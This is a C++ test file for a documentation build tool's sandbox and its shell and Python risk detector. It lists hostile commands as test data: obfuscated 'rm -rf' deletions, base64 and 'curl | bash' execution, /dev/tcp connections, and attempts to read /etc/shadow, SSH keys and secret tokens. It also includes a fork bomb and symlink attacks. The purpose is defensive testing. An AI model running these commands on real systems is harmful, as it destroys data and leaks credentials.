// Units of hostile pages: texts that the risk rules have to keep from running, consent that nobody
// gave, and what a unit that runs finds behind its walls.
#include <arpa/inet.h>
#include <doctest/doctest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <map>

#include "base/disk.h"
#include "base/format.h"
#include "base/process.h"
#include "base/sandbox.h"
#include "base/text.h"
#include "run/consent.h"
#include "run/evidence.h"
#include "run/units/python_risk.h"
#include "run/units/risk.h"
#include "support/skip.h"
#include "support/slurm_cluster.h"
#include "whole/work_directory.h"

using namespace kbuild;

namespace {

using run::find_python_risk;
using run::find_risk;
using run::Risk;

constexpr const char* kDeletes = "\nrm -rf /victim\n";

/// Beginnings of a block that must not hide what follows them.
constexpr const char* kOpenings[] = {
    "python3 -c \"print('a')\"",
    "echo \"$(echo \")\")\"",
    "echo \"it's\"",
    "echo 'a \"b'",
    "echo \"a 'b\" # it's",
    "cat <<EOF\nit's $(echo \")\")\nEOF",
    "cat <<'EOF'\n$(\nEOF",
    "cat <<-EOF\n\t\"\n\tEOF",
    "cat <<< \"a ' b\"",
    "diff <(sort \"a)\") <(echo ')')",
    "echo $(( (1 + 2) * 3 ))",
    "(( x = 1 << 2 ))",
    "((x=1<<y))",
    "for ((i=1<<3; i < 2; i++)); do :; done",
    "echo ${x:-\"}\"}",
    "echo ${x//\\'/\\\"}",
    "x=$(case a in a) echo b;; esac)",
    "echo \"$(case a in a) echo \")\";; esac)\"",
    "echo $'it\\'s'",
    "echo $\"a\"",
    "echo a#b; # \"",
    "echo `echo \"\\`echo a\\`\"`",
    "if [[ a =~ ^\\( ]]; then :; fi",
    "f() { echo \")\"; }",
    "function g { :; }",
    "cat > x.txt <<A <<B\n\"\nA\n'\nB",
    "echo \\\" \\'",
    "echo a \\\n\"b\"",
    "awk '{ print \"(\" }' x",
    "case x in (a) : ;; b) : ;; esac",
    "printf '%s' \"$(printf '%s' \"$(echo \")\")\")\"",
    "true && { echo \"}\"; }",
    "#!/bin/bash\n#SBATCH --comment=\"it's\npython3 -c \"print('a')\"",
};

}  // namespace

TEST_CASE("no opening of a block hides the commands after it") {
  for (std::string opening : kOpenings) {
    CAPTURE(opening);
    CHECK(find_risk(opening + kDeletes).risk == Risk::person);
    CHECK(run::find_file_risk("job.sh", "#!/bin/bash\n" + opening + kDeletes).risk == Risk::person);
  }
}

TEST_CASE("what stays harmless may run") {
  for (std::string commands : {
           "python3 -c \"print('a')\"",
           "python3 -c 'import torch; print(torch.__version__)'",
           "echo \"$(echo \")\")\"",
           "cat > a.py <<EOF\nprint(1)\nEOF\npython3 a.py",
           "cat > a.sh <<'EOF'\necho \"$HOME\"\nEOF\nbash a.sh",
           "(( x = 1 << 2 )); echo $x",
           "for i in 1 2; do echo $i; done",
           "srun -n 4 python3 train.py --lr 0.1",
           "CXX=g++\n$CXX -o a a.cc\n./a",
           "rm -rf build ~/.cache/x $TMPDIR/y",
           "mkdir -p build && cd build && cmake .. && make",
           "find . -name '*.o' -delete",
           "awk '{ print $1 }' data.txt | sort | uniq -c",
           "sed 's/a/b/' x > y",
           "env -i ls; nice -n 5 ls; timeout 10 ls",
           "bash -c 'echo hello'",
           "export OMP_NUM_THREADS=$SLURM_CPUS_PER_TASK",
           "tar xf a.tar -C sub",
           "python3 -m venv env",
           "python3 --version && bash --version",
           "diff <(sort a) <(sort b)",
           "echo $((2 * 3)) $'a\\tb'",
           "git --version",
       }) {
    CAPTURE(commands);
    CHECK(find_risk(commands).reason == "");
  }
}

TEST_CASE("texts that are only known when they run are left to a person") {
  for (std::string commands : {
           "echo cm0gLXJmIC92aWN0aW0= | base64 -d | bash",
           "echo cm0gLXJmIC92aWN0aW0= | base64 -d |\n  sh",
           "curl -s https://example.org/x.sh | bash -s -- --yes",
           "bash <(curl -s https://example.org/x.sh)",
           "source <(echo rm -rf /victim)",
           "source /dev/stdin <<< 'rm -rf /victim'",
           "bash <<< 'rm -rf /victim'",
           "bash <<EOF\nrm -rf /victim\nEOF",
           "sh < script",
           "echo x | { bash; }",
           "echo x | tee >(bash)",
           "eval \"$(base64 -d <<< cm0=)\"",
           "eval rm -rf /victim",
           "echo 'rm -rf /victim' > a.sh; bash a.sh",
           "printf '%s' x > a.sh; chmod +x a.sh; ./a.sh",
           "cat > a.sh <<EOF\nrm -rf /victim\nEOF\nbash a.sh",
           "base64 -d x > a.py\npython3 a.py",
           "echo x > b; mv b a.sh; . ./a.sh",
           "cat <<EOF\n$(rm -rf /victim)\nEOF",
           "echo ${x:-$(rm -rf /victim)}",
           "X=rm; $X -rf /victim",
           "X=/victim; touch $X/a",
           "$COMMAND -rf /victim",
           "$(echo rm) -rf /victim",
           "/bin/r? -rf /victim",
           "{rm,-rf,/victim}",
           "r'm' -rf /victim",
           "$'\\x72m' -rf $'\\57victim'",
           "touch $'\\x2fvictim/a'",
           "for x do rm -rf /victim; done",
           "function f { rm -rf /victim; }; f",
           "coproc rm -rf /victim",
           "time -p rm -rf /victim",
           "env -i rm -rf /victim",
           "env -u X -S 'rm -rf /victim'",
           "exec -c rm -rf /victim",
           "timeout -s 9 5 rm -rf /victim",
           "echo /victim | xargs rm -rf",
           "parallel rm -rf ::: /victim",
           "flock x -c 'rm -rf /victim'",
           "busybox rm -rf /victim",
           "trap 'rm -rf /victim' EXIT",
           "alias x='rm -rf /victim'",
           "find . -exec true \\; -exec rm -rf /victim \\;",
           "find / -type f -exec sh -c 'rm \"$1\"' _ {} +",
           "awk 'BEGIN { system(\"rm -rf /victim\") }'",
           "sed '1e rm -rf /victim' x",
           "tar cf x y --checkpoint=1 --checkpoint-action=exec=sh",
           "tar xf x -C /victim",
           "git -c alias.x='!rm -rf /victim' x",
           "cmake -E rm -rf /victim",
           "perl -e 'unlink glob \"/victim/*\"'",
           "python3 -c 'import shutil; shutil.rmtree(\"/victim\")'",
           "python3 - <<EOF\nimport os\nos.system('rm -rf /victim')\nEOF",
           "cd ../../..; rm -rf *",
           "cd build; cd ../..; rm -rf *",
           "cd \"$OTHER\"; rm -rf *",
           "cd /victim; cd sub; rm -rf *",
           "(cd a/b/c); cd ../../..; rm -rf *",
           "echo x > ../../../victim",
           "cp a ../../victim",
           "echo \"a",
           "echo $(ls",
           "cat <<EOF\na",
       }) {
    CAPTURE(commands);
    CHECK(find_risk(commands).risk == Risk::person);
  }
  CHECK(find_risk("exec 3<> /dev/tcp/192.0.2.1/80").risk != Risk::none);
}

TEST_CASE("Python that starts programs, makes code or deletes elsewhere is left to a person") {
  for (std::string code : {
           "import os\nos.system('x')",
           "import os as o\no.system('x')",
           "from os import system\nsystem('x')",
           "from os import (path,\n  system as s)\ns('x')",
           "f = getattr(os, 'sys' + 'tem')",
           "import subprocess as s\ns.run('x')",
           "__import__('os').popen('x')",
           "import importlib\nimportlib.import_module('subprocess')",
           "exec(code)",
           "e = eval\ne('1')",
           "import shutil\nshutil.rmtree('/victim')",
           "shutil.rmtree(path)",
           "shutil.rmtree('a/../../victim')",
           "from shutil import rmtree\nrmtree('/victim')",
           "os.remove(sys.argv[1])",
           "Path('/victim').unlink()",
           "open('/victim', 'w')",
           "print(f\"{__import__('os').system('x')}\")",
           "print(f'''{os.system(\"x\")}''')",
           "ctypes.CDLL(None)",
           "sys.modules['os']",
           "os.__dict__['system']",
       }) {
    CAPTURE(code);
    CHECK(find_python_risk(code).risk == Risk::person);
  }
  for (std::string code : {
           "import os, sys\nprint(os.environ['HOME'], sys.argv)",
           "model.eval()\nmodel = torch.compile(model)\nre.compile('x')",
           "print(platform.system())",
           "from importlib.metadata import version\nprint(version('torch'))",
           "shutil.rmtree('cache', ignore_errors=True)",
           "os.remove('a.txt')\nitems.remove(3)\ntext.replace('a', 'b')",
           "open('a.txt', 'w').write('os.system')",
           "open('/proc/cpuinfo')\n# subprocess",
           "parser.add_argument('--eval', action='store_true')\nargs = vars(parser.parse_args())",
           "dist.init_process_group('gloo')",
       }) {
    CAPTURE(code);
    CHECK(find_python_risk(code).reason == "");
  }
}

TEST_CASE("nested wrappers and shells are judged in bounded time") {
  std::string watches, shells = "true", quotes, dollars;
  for (int i = 0; i < 3000; ++i) watches += "watch ";
  for (int i = 0; i < 30; ++i) shells = "bash -c " + std::string(1, '"') + shells;
  for (int i = 0; i < 20000; ++i) quotes += "$(\"";
  for (int i = 0; i < 20000; ++i) dollars += "A" + std::to_string(i) + "=1; $A0 ";
  CHECK(find_risk(dollars).risk == Risk::none);
  for (const std::string& commands : {watches + "rm", shells, quotes}) {
    CAPTURE(commands.substr(0, 40));
    CHECK(find_risk(commands).risk == Risk::person);
  }
}

namespace {

using Variables = std::map<std::string, std::string>;

base::Result<void> consent(Variables variables, run::Agreement repository = run::Agreement::given,
                           run::Agreement runner = run::Agreement::given,
                           const std::string& event = "") {
  base::MemoryDisk disk;
  if (!event.empty()) {
    disk.files["event.json"] = event;
    variables["GITHUB_EVENT_PATH"] = "event.json";
  }
  return run::ask_consent(disk, {repository, runner, std::move(variables)});
}

std::string pull_request(const std::string& head, const std::string& base) {
  return base::format(R"({{"pull_request": {{"head": {{"repo": {}}}, "base": {{"repo": {}}}}}}})",
                      head, base);
}

bool github(const std::string& name, const std::string& event, Variables more = {}) {
  more.emplace("GITHUB_ACTIONS", "true");
  more.emplace("GITHUB_EVENT_NAME", name);
  return consent(more, run::Agreement::given, run::Agreement::given, event).has_value();
}

bool gitlab(const std::string& source, Variables more = {}) {
  more.emplace("GITLAB_CI", "true");
  more.emplace("CI_PIPELINE_SOURCE", source);
  return consent(more).has_value();
}

}  // namespace

TEST_CASE("what pages say runs only with the consent of repository and runner") {
  using enum run::Agreement;
  CHECK(consent({}, given, given).has_value());
  CHECK(consent({{"KBUILD_ALLOW_EXECUTE", "1"}}, given, withheld).has_value());
  for (const char* value : {"", "0", "true", "yes", " 1", "11"})
    CHECK(!consent({{"KBUILD_ALLOW_EXECUTE", value}}, given, withheld).has_value());
  auto runner = consent({}, given, withheld), repository = consent({}, withheld, given);
  REQUIRE(!runner.has_value());
  REQUIRE(!repository.has_value());
  CHECK(runner.error().hint.find("--allow-execute") != std::string::npos);
  CHECK(repository.error().hint.find("execute: true") != std::string::npos);
  CHECK(!consent({}, withheld, withheld).has_value());
}

TEST_CASE("a pull request of a fork on GitHub is never run, nor an event that tells too little") {
  const std::string own = R"({"full_name": "a/b", "fork": false})",
                    other = R"({"full_name": "x/b", "fork": true})";
  for (const char* name : {"pull_request", "pull_request_target", "pull_request_review",
                           "pull_request_review_comment"}) {
    CAPTURE(name);
    CHECK(github(name, pull_request(own, own)));
    CHECK(github(name, pull_request(own, own), {{"GITHUB_REPOSITORY", "a/b"}}));
    CHECK(!github(name, pull_request(own, own), {{"GITHUB_REPOSITORY", "c/d"}}));
    CHECK(!github(name, pull_request(other, own)));
    // The fork was deleted, or the file is odd.
    CHECK(!github(name, pull_request("null", own)));
    CHECK(!github(name, pull_request("{}", "{}")));
    CHECK(!github(name, pull_request(R"({"full_name": 1})", R"({"full_name": 1})")));
    for (const char* event : {"[]", "{", "null", "{\"pull_request\": []}", "\xff\xfe"})
      CHECK(!github(name, event));
    CHECK(!github(name, ""));
    CHECK(!github(name, "", {{"GITHUB_EVENT_PATH", "/absent"}}));
  }
  auto workflow_run = [](const char* head) {
    return base::format(R"({{"workflow_run": {{"head_repository": {}}}, "repository":
                        {{"full_name": "a/b"}}}})",
                        head);
  };
  CHECK(github("workflow_run", workflow_run(R"({"full_name": "a/b"})")));
  CHECK(!github("workflow_run", workflow_run(R"({"full_name": "x/b"})")));
  CHECK(!github("workflow_run", workflow_run("null")));
  for (const char* name : {"push", "schedule", "workflow_dispatch"}) CHECK(github(name, "{}"));
  CHECK(!github("push", "{}", {{"GITHUB_HEAD_REF", "patch-1"}}));
  CHECK(!github("push", "{}", {{"GITHUB_REF", "refs/pull/3/merge"}}));
  for (const char* name : {"issue_comment", "discussion", "fork", "", "Push", "new_event"})
    CHECK(!github(name, "{}"));
  CHECK(!consent({{"GITHUB_ACTIONS", "true"}}).has_value());
}

TEST_CASE(
    "a merge request of a fork on GitLab is never run, nor a pipeline that tells too little") {
  const Variables own = {{"CI_MERGE_REQUEST_SOURCE_PROJECT_ID", "7"},
                         {"CI_MERGE_REQUEST_PROJECT_ID", "7"},
                         {"CI_PROJECT_ID", "7"}};
  CHECK(gitlab("merge_request_event", own));
  for (const auto& [name, value] : own) {
    Variables changed = own;
    changed[name] = "8";
    CHECK(!gitlab("merge_request_event", changed));
    changed.erase(name);
    CHECK(!gitlab("merge_request_event", changed));
    // A child pipeline of one has another source.
    CHECK(!gitlab("push", changed));
  }
  CHECK(!gitlab("merge_request_event"));
  for (const char* source : {"push", "schedule", "web", "api", "trigger"}) CHECK(gitlab(source));
  for (const char* source : {"parent_pipeline", "pipeline", "", "other"}) CHECK(!gitlab(source));
  CHECK(!gitlab("external_pull_request_event"));
  CHECK(gitlab("external_pull_request_event",
               {{"CI_EXTERNAL_PULL_REQUEST_SOURCE_REPOSITORY", "a/b"},
                {"CI_EXTERNAL_PULL_REQUEST_TARGET_REPOSITORY", "a/b"}}));
  CHECK(!gitlab("external_pull_request_event",
                {{"CI_EXTERNAL_PULL_REQUEST_SOURCE_REPOSITORY", "x/b"},
                 {"CI_EXTERNAL_PULL_REQUEST_TARGET_REPOSITORY", "a/b"}}));
}

namespace {

/// A server on the loopback device that nobody answers, to see who reaches it.
struct Listener {
  int socket = ::socket(AF_INET, SOCK_STREAM, 0);
  int port = 0;
  Listener() {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    REQUIRE(::bind(socket, reinterpret_cast<sockaddr*>(&address), size) == 0);
    REQUIRE(::listen(socket, 8) == 0);
    ::getsockname(socket, reinterpret_cast<sockaddr*>(&address), &size);
    port = ntohs(address.sin_port);
  }
  ~Listener() { ::close(socket); }
};

/// A repository of an attacker on a machine that has something to lose: a directory beside it, a
/// home with a key, and a token in the environment.
struct Attack {
  test::WorkDirectory repository, machine;
  std::unique_ptr<base::Disk> disk = base::make_real_disk();

  Attack() {
    write(repository, "kbuild.yml",
          "site: {name: Test}\nlanguages: [en]\nsources: [{path: docs, lang: en}]\n"
          "snippets: {execute: true, systems: systems}\n");
    write(repository, "systems/local.yaml",
          "name: local\nexecution: {executor: local, max_time: \"00:01:00\"}\n");
    write(repository, "systems/cluster.yaml",
          "name: Cluster\nexecution: {executor: slurm, max_time: \"00:01:00\"}\n");
    write(machine, "profiles/local.yaml", "name: local\nexecution: {max_memory: 600M}\n");
    write(machine, "home/.ssh/id", "SECRET-KEY\n");
    write(machine, "home/notes", "SECRET-NOTES\n");
    REQUIRE(disk->make_directories(machine.path + "/victim"));
  }
  void write(const test::WorkDirectory& where, const std::string& name, const std::string& text) {
    REQUIRE(disk->write(where.path + "/" + name, text));
  }
  /// Adds a unit whose program no rule of risks reads: the walls alone hold it.
  void add(const std::string& unit, const std::string& recipe, int seconds = 30) {
    page += base::format(
        "\n<!-- kb: unit={0} file=Makefile lang=make -->\n```make\nall:\n\t{1}\n```\n\n"
        "<!-- kb: unit={0} timeout={2} -->\n```bash\nmake\n```\n",
        unit, recipe, seconds);
  }
  /// The records of a run by their units.
  std::map<std::string, run::RunRecord> run(std::vector<std::string> more = {}) {
    write(repository, "docs/page.md", "# Page\n" + page);
    base::Command command{{KBUILD_PROGRAM, "--quiet", "--machine", machine.path + "/profiles",
                           "test", "--allow-execute", "--json", "out.json"}};
    command.arguments.insert(command.arguments.end(), more.begin(), more.end());
    command.directory = repository.path;
    command.inherit_environment = false;
    for (const auto& [name, value] : base::current_environment())
      if (name == "PATH" || name == "SLURM_CONF") command.environment[name] = value;
    command.environment["HOME"] = machine.path + "/home";
    command.environment["SECRET_TOKEN"] = "SECRET-TOKEN";
    command.timeout = 170;
    auto outcome = base::run_process(command);
    REQUIRE(outcome.has_value());
    CAPTURE(outcome->errors);
    CHECK(!outcome->timed_out);
    CHECK(outcome->exit_code < 2);
    std::map<std::string, run::RunRecord> records;
    std::string json = disk->read(repository.path + "/out.json").value_or("");
    CHECK(json.find("SECRET-") == std::string::npos);
    for (std::string_view line : base::split_lines(json))
      if (auto record = run::from_json(line)) records[record->unit] = *record;
    return records;
  }
  bool victim_is_empty() const {
    auto left = base::run_process({{"find", machine.path + "/victim", "-mindepth", "1"}});
    return left && left->output.empty();
  }

  std::string page;
};

bool have_walls() {
  return test::can_run(base::walls_here().files && base::walls_here().processes,
                       "this machine makes no walls of files and processes");
}

/// A recipe that says how an attempt went.
std::string attempt(const std::string& command) {
  return base::format("@{} > /dev/null 2>&1 && echo REACHED || echo held", command);
}

}  // namespace

TEST_CASE("a unit reaches no file, network, process or variable outside its walls") {
  if (!have_walls()) return;
  Attack attack;
  Listener listener;
  std::string victim = attack.machine.path + "/victim", home = attack.machine.path + "/home";
  const std::map<std::string, std::string> attempts = {
      {"shadow", "cat /etc/shadow"},
      {"key", "cat " + home + "/.ssh/id"},
      {"notes", "cat " + home + "/notes"},
      {"repository", "cat " + attack.repository.path + "/kbuild.yml"},
      {"write", "touch " + victim + "/x"},
      {"root", "mkdir /evil"},
      {"usr", "touch /usr/bin/evil"},
      {"etc", "sh -c 'echo x >> /etc/passwd'"},
      {"token", "sh -c 'env | grep SECRET'"},
      {"parent", "grep -a SECRET /proc/1/environ"},
      {"others", "sh -c 'cat /proc/[0-9]*/cmdline | grep -a allow-[e]xecute'"},
      {"loopback", base::format("bash -c 'exec 3<> /dev/tcp/127.0.0.1/{}'", listener.port)},
      {"mount", "mount -t tmpfs none /usr"},
      {"remount", "mount -o remount,rw /usr"},
      {"owner", "sh -c '[ \"$$(id -u)\" = 0 ]'"},
      {"capabilities", "sh -c 'grep CapEff /proc/self/status | grep -v 0000000000000000'"},
      {"device", "sh -c 'ls /dev/sd* /dev/vd* /dev/mem /dev/kmsg'"},
      {"sysctl", "sh -c 'echo 1 > /proc/sys/kernel/panic'"},
  };
  for (const auto& [unit, command] : attempts) attack.add(unit, attempt(command));
  auto records = attack.run();
  for (const auto& [unit, command] : attempts) {
    CAPTURE(command);
    CHECK(records[unit].output.find("held") != std::string::npos);
    CHECK(records[unit].output.find("REACHED") == std::string::npos);
    CHECK(records[unit].walls == base::wall_words(base::walls_here()));
  }
  CHECK(attack.victim_is_empty());
}

TEST_CASE("a unit that takes without end is ended, and the run goes on") {
  if (!have_walls()) return;
  Attack attack;
  attack.add("child", "(setsid sleep 5151 &) ; (setsid nohup sleep 5151 > /dev/null 2>&1 &)");
  attack.add("forks", "f() { f | f & }; f; sleep 60", 3);
  attack.add("memory", "head -c 5000000000 /dev/zero | tail -c 4000000000 > /dev/null");
  attack.add("file", "dd if=/dev/zero of=big bs=1 count=1 seek=5G");
  attack.add("time", "trap '' TERM INT HUP; while :; do :; done", 2);
  attack.add("after", "echo fine");
  auto records = attack.run();
  CHECK(run::verdict_name(records["child"].verdict) == "pass");
  CHECK(run::verdict_name(records["forks"].verdict) == "timeout");
  CHECK(run::verdict_name(records["memory"].verdict) != "pass");
  CHECK(run::verdict_name(records["file"].verdict) != "pass");
  CHECK(run::verdict_name(records["time"].verdict) == "timeout");
  CHECK(run::verdict_name(records["after"].verdict) == "pass");
  auto left = base::run_process({{"pgrep", "-f", "sleep 515[1]"}});
  REQUIRE(left.has_value());
  CHECK(left->output.empty());
}

TEST_CASE("links that a unit leaves in place of its results are not followed") {
  if (!have_walls()) return;
  Attack attack;
  std::string secret = attack.machine.path + "/home/notes";
  attack.add("output", "rm ../out-1; ln -s " + secret + " ../out-1");
  attack.add("errors", "rm ../err-1; ln -s " + secret + " ../err-1; false");
  attack.add("facts", "rm ../facts; ln -s " + secret + " ../facts");
  attack.add("limit", "ln -s " + attack.machine.path + "/victim/limit ../limit; sleep 20", 1);
  attack.add("cut", "ln -s " + attack.machine.path +
                        "/victim/cut ../out-1.cut; head -c 3000000 /dev/zero | tr '\\0' x");
  auto records = attack.run();
  CHECK(records.size() == 5);
  CHECK(attack.victim_is_empty());
}

TEST_CASE("a unit as a Slurm job runs behind the node's walls, unless it starts tasks") {
  if (!have_walls() || !support::SlurmCluster::instance()) return;
  Attack attack;
  std::string victim = attack.machine.path + "/victim";
  attack.add("write", attempt("touch " + victim + "/x"));
  attack.add("shadow", attempt("cat /etc/shadow"));
  attack.add("key", attempt("cat " + attack.machine.path + "/home/.ssh/id"));
  attack.add("limit", "ln -s " + victim + "/limit ../limit; sleep 30", 2);
  attack.page += "\n<!-- kb: unit=tasks -->\n```bash\nsrun -n 1 hostname\n```\n";
  auto records = attack.run({"--system", "Cluster"});
  for (const char* unit : {"write", "shadow", "key"}) {
    CAPTURE(unit);
    CAPTURE(records[unit].reason);
    CAPTURE(records[unit].output);
    CHECK(records[unit].output.find("held") != std::string::npos);
    CHECK(base::join(records[unit].walls, " ") == "bubblewrap files network processes");
  }
  CHECK(run::verdict_name(records["limit"].verdict) == "timeout");
  CHECK(run::verdict_name(records["tasks"].verdict) == "pass");
  CHECK(records["tasks"].walls == std::vector<std::string>{"none"});
  CHECK(attack.victim_is_empty());
}

TEST_CASE("a profile of the repository opens no wall") {
  if (!have_walls()) return;
  Attack attack;
  std::string victim = attack.machine.path + "/victim";
  attack.write(attack.repository, "systems/local.yaml",
               base::format("name: local\nexecution:\n  executor: local\n  writable: [{0}]\n"
                            "  readable: [{1}]\n  network: true\n  max_memory: 0\n"
                            "  prelude: touch {0}/prelude\n",
                            victim, attack.machine.path + "/home"));
  attack.add("write", attempt("touch " + victim + "/x"));
  attack.add("read", attempt("cat " + attack.machine.path + "/home/notes"));
  auto records = attack.run();
  for (const char* unit : {"write", "read"})
    CHECK(records[unit].output.find("held") != std::string::npos);
  CHECK(attack.victim_is_empty());
}
